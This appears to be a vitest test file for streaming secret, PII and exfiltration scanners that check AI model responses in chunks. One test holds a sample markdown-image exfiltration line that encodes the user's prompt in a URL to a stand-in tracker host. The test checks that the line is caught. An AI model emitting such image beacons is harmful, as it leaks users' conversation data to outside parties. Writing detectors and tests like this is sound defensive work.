import { describe, expect, it } from 'vitest'
import { loadEval } from '../eval/dataset.js'
import { ExfiltrationScanner, PiiScanner, SecretsScanner } from '../src/scanners/index.js'
import type { Finding, ScanContext, Scanner } from '../src/types.js'

const ctx: ScanContext = { exchange_id: 's', provider: 'test', messages: [{ role: 'user', content: 'Please summarise the quarterly numbers for ACME Corp.' }] }
const key = (f: Finding) => `${f.kind}@${f.location.start}-${f.location.end}`

function streamAll(scanner: Scanner, chunks: string[]): { findings: Finding[]; beforeEnd: Finding[] } {
  const st = scanner.startResponse!(ctx)
  const beforeEnd: Finding[] = []
  for (const c of chunks) beforeEnd.push(...st.push(c))
  return { findings: [...beforeEnd, ...st.end()], beforeEnd }
}

describe('streaming scans', () => {
  const cases: Array<[string, Scanner, string[]]> = [
    ['secrets', new SecretsScanner(), loadEval('secrets').filter((r) => r.label === 1).map((r) => r.text)],
    ['pii', new PiiScanner(), loadEval('pii').filter((r) => r.label === 1).map((r) => r.text)],
  ]
  for (const [name, scanner, samples] of cases) {
    it(`${name}: a value split across two chunks at every position is found at the whole-text offsets`, () => {
      for (const sample of samples) {
        const text = `Sure, here it is: ${sample} — let me know if you need anything else.`
        const whole = streamAll(scanner, [text]).findings.map(key).sort()
        expect(whole.length, sample).toBeGreaterThan(0)
        for (let cut = 1; cut < text.length; cut++) {
          const split = streamAll(scanner, [text.slice(0, cut), text.slice(cut)]).findings.map(key).sort()
          expect(split, `${sample} cut at ${cut}`).toEqual(whole)
        }
      }
    })
  }

  it('reports findings before the stream ends, in token-sized chunks', () => {
    const s = new SecretsScanner()
    const sample = loadEval('secrets').find((r) => r.kind === 'github_token')!.text
    const text = `Here is the token: ${sample}\nand then a long explanation follows. ${'More words follow here. '.repeat(20)}`
    const chunks = text.match(/[\s\S]{1,4}/g)!
    const st = s.startResponse(ctx)
    let seenAt = -1
    let sent = 0
    for (const c of chunks) {
      sent += c.length
      if (st.push(c).length && seenAt < 0) seenAt = sent
    }
    st.end()
    expect(seenAt).toBeGreaterThan(0)
    expect(seenAt).toBeLessThan(text.length - 200)
  })

  it('finds a markdown image exfiltration split across chunks', () => {
    const ex = new ExfiltrationScanner()
    const text = 'Done! ![status](https://img.tracker.example/p.png?q=summarise+the+quarterly+numbers+for+acme+corp) Have a nice day.'
    const whole = streamAll(ex, [text]).findings.map(key)
    expect(whole).toHaveLength(1)
    for (let cut = 1; cut < text.length; cut += 3) {
      expect(streamAll(ex, [text.slice(0, cut), text.slice(cut)]).findings.map(key)).toEqual(whole)
    }
  })

  it('keeps memory bounded and counts what it skipped', () => {
    const s = new SecretsScanner({ maxScanChars: 10_000 })
    const st = s.startResponse(ctx)
    for (let i = 0; i < 200; i++) st.push('lorem ipsum dolor sit amet '.repeat(10))
    const end = st.end()
    const cut = end.find((f) => f.kind === 'scan_truncated')
    expect(cut?.evidence).toMatch(/scanned the first 10000 of 54000 chars; skipped 44000/)
  })
})
